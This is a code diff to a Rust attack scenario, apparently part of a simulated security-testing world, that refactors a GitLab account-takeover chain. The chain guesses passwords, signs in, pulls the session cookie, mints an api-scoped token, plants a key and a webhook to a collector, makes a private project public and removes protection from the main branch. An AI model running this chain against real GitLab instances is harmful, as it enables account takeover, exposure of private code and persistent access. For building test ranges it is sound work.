@@ -6,12 +6,11 @@
 
 use reqwest::Method;
 use serde_json::json;
-use url::form_urlencoded;
 
-use super::AttackError;
-use super::attacker::{Attacker, Body, Reply, text};
-use super::leaked_token::{plant_key, plant_webhook};
-use super::loot::{Credential, CredentialKind, Foothold, Loot};
+use super::attacker::{Attacker, text};
+use super::hands::{plant_key, plant_webhook};
+use super::loot::{CredentialKind, Loot};
+use super::{AttackError, hands};
 use crate::world::VICTIM_PASSWORD;
 
 /// The victim's username.
@@ -26,61 +25,19 @@ const GUESSES: [&str; 3] = ["Harborline2026!", "oscar1987", "lindqvist-harbor"];
 
 /// Runs the attack.
 pub(crate) async fn run(attacker: Attacker) -> Result<Loot, AttackError> {
-    let session = sign_in(&attacker).await?;
-    let token = make_token(&attacker, &session).await?;
-    let mut loot = Loot {
-        credentials: vec![
-            Credential { name: "the browser session".to_owned(), kind: session },
-            Credential { name: "a personal token made with it".to_owned(), kind: token.clone() },
-        ],
-        footholds: Vec::new(),
-        variables_read: 0,
-        attacker,
-    };
+    for guess in GUESSES {
+        hands::try_password(&attacker, "guess the password", USERNAME, guess).await?;
+    }
+    let session = hands::sign_in(&attacker, USERNAME, VICTIM_PASSWORD).await?;
+    let token = hands::make_token(&attacker, &session, "mobile", &["api"]).await?;
+    let mut loot = Loot::new(attacker);
+    loot.hold("the browser session", session);
+    loot.hold("a personal token made with it", token.clone());
     let project = look_around(&mut loot, &token).await?;
     plant_key(&mut loot, &token, "notebook", KEY, &project).await?;
     open_up(&mut loot, &token, &project).await?;
     plant_webhook(&mut loot, &token, &project, COLLECTOR).await?;
     Ok(loot)
-}
-
-async fn sign_in(attacker: &Attacker) -> Result<CredentialKind, AttackError> {
-    for guess in GUESSES {
-        try_password(attacker, "guess the password", guess).await?;
-    }
-    let reply = try_password(attacker, "sign in with the password", VICTIM_PASSWORD).await?;
-    let cookies = reply.accepted()?.headers;
-    let cookie = cookies.get("set-cookie").and_then(|value| value.to_str().ok());
-    let value = cookie
-        .and_then(|cookie| cookie.strip_prefix("_gitlab_session="))
-        .and_then(|rest| rest.split(';').next());
-    value
-        .map(|value| CredentialKind::Session(value.to_owned()))
-        .ok_or(AttackError::NotFound("a session cookie"))
-}
-
-async fn try_password(
-    attacker: &Attacker,
-    title: &str,
-    password: &str,
-) -> Result<Reply, AttackError> {
-    let form = form_urlencoded::Serializer::new(String::new())
-        .append_pair("user[login]", USERNAME)
-        .append_pair("user[password]", password)
-        .finish();
-    attacker.send(title, (Method::POST, "/users/sign_in"), None, Body::Form(form)).await
-}
-
-/// Makes a token on the settings page, for which the session suffices.
-async fn make_token(
-    attacker: &Attacker,
-    session: &CredentialKind,
-) -> Result<CredentialKind, AttackError> {
-    let body = Body::Json(json!({ "name": "mobile", "scopes": ["api"] }));
-    let to = (Method::POST, "/-/user_settings/personal_access_tokens");
-    let title = "make a personal token on the settings page";
-    let made = attacker.send(title, to, Some(session), body).await?.accepted()?;
-    Ok(CredentialKind::AccessToken(made.field("token")))
 }
 
 /// Reads what the user may read. Returns the project that he owns.
@@ -106,19 +63,9 @@ async fn open_up(
     token: &CredentialKind,
     project: &str,
 ) -> Result<(), AttackError> {
-    let attacker = loot.attacker.clone();
     let path = format!("/projects/{project}");
-    let body = json!({ "visibility": "public" });
     let title = "make a private project public";
-    attacker.write(title, (Method::PUT, &path), Some(token), body).await?.accepted()?;
-    loot.footholds.push(Foothold::PublicProject { project: project.to_owned() });
-
-    let path = format!("/projects/{project}/protected_branches/main");
-    let title = "remove the protection of a branch";
-    attacker.write(title, (Method::DELETE, &path), Some(token), json!({})).await?.accepted()?;
-    loot.footholds.push(Foothold::UnprotectedBranch {
-        project: project.to_owned(),
-        branch: "main".to_owned(),
-    });
-    Ok(())
+    let to = ("visibility", json!("public"));
+    hands::change(loot, token, title, (Method::PUT, &path), to).await?;
+    hands::unprotect(loot, token, project, "main").await
 }
